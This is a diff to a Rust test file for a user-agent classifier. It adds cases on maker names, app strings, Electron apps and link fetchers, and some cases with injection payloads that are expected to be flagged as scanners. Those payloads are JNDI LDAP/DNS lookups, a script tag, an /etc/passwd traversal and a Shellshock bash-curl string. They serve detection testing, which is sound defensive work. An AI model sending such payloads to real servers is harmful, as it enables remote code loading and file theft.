@@ -177,6 +177,31 @@ classify! {
     gstreamer_framework: "GStreamer souphttpsrc libsoup/2.52.2" => Robot, "-", "-", [];
     download_manager: "Free Download Manager" => Robot, "-", "other", [];
     download_tool: "aria2/1.35.0" => Robot, "-", "http-library", [];
+    // A product named after a platform names none (stop 19's cold try): `RestSharp` holds the
+    // maker Sharp, `FooNokia` Nokia; a maker's own model glued after its name still counts.
+    restsharp: "RestSharp/110.2.0.0" => Robot, "-", "http-library", [];
+    restsharp_lowercase: "restsharp/1.0" => Robot, "-", "http-library", [];
+    maker_name_inside_a_product: "FooNokia/1.0" => Robot, "-", "http-library", [];
+    maker_then_model: "NokiaN73-1" => Unknown, "-", "-", [];
+    operator_in_capitals: "Mozilla/5.0 (NTTDoCoMo SH900i) Scope/3.0 Venus/0326.1" => Unknown, "-", "-", [];
+    // Injection payloads anywhere, browser strings and catalog names beside them included.
+    jndi_after_chrome: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 ${jndi:ldap://x/a}" => Robot, "-", "scanner", [];
+    jndi_before_mozilla: "${jndi:ldap://x/a} Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0" => Robot, "-", "scanner", [];
+    jndi_in_platform_comment: "Mozilla/5.0 (Windows NT 10.0; ${jndi:dns://x}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36" => Robot, "-", "scanner", [];
+    script_after_safari: "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1 <script>alert(1)</script>" => Robot, "-", "scanner", [];
+    traversal_after_chrome: "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 ../../etc/passwd" => Robot, "-", "scanner", [];
+    shellshock_naming_curl: "() { :;}; /bin/bash -c \"curl x\"" => Robot, "-", "scanner", [];
+    googlebot_with_a_payload: "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html) ${jndi:ldap://x/a}" => Robot, "-", "scanner", [];
+    // ... and what browsers and apps send that only looks like one.
+    app_name_with_apostrophe: "Domino's/5.0 CFNetwork/1410.0.3 Darwin/22.6.0" => Unknown, "-", "-", [];
+    percent_encoded_app_name: "Pok%C3%A9mon%20GO/1 CFNetwork/1410.0.3 Darwin/22.6.0" => Unknown, "-", "-", [];
+    hbbtv_profile_list: "HbbTV/1.1.1 (;Kathrein;UFS-925;;) CE-HTML/1.0 (<profilelist><ui_profile name=x>)" => Unknown, "-", "-", [];
+    // An Electron app named like a company's link fetcher is the app; the fetcher is a robot,
+    // and so is a robot that runs in Electron and adds its name after the engine.
+    notion_desktop: "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Notion/3.16.0 Chrome/124.0.6367.243 Electron/30.5.1 Safari/537.36" => Browser, "-", "-", [];
+    notion_link_fetcher: "Notion/1.0 (https://notion.so; team@makenotion.com)" => Robot, "Notion", "social-preview", ["notion"];
+    pingdom_in_electron_full: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) renderer/2020.2.0 Chrome/78.0.3904.130 Electron/7.1.7 Safari/537.36 PingdomTMS/2020.2" => Robot, "PingdomPageSpeed", "monitoring", ["pingdompagespeed"];
+    catalog_name_elsewhere_in_electron: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.243 Electron/30.5.1 Safari/537.36 Notion/1.0" => Robot, "Notion", "social-preview", ["notion"];
 }
 
 #[test]
